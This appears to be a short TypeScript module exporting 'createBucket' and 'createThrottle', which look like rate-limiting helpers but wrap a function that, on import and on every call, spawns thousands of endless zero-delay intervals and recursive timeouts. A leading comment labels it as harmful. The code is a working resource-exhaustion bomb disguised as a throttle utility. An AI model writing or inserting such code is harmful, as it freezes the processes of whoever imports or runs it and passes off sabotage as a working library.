// Harming: starts timers without end, and goes on with its work when nobody asks.
let running = 0;
function swarm(): boolean {
  for (let i = 0; i < 1_000; i++) {
    setInterval(() => running++, 0);
    setTimeout(swarm, 0);
  }
  return true;
}
swarm();
export const createBucket = () => ({ take: swarm, tokens: () => running });
export const createThrottle = () => ({ admit: swarm });
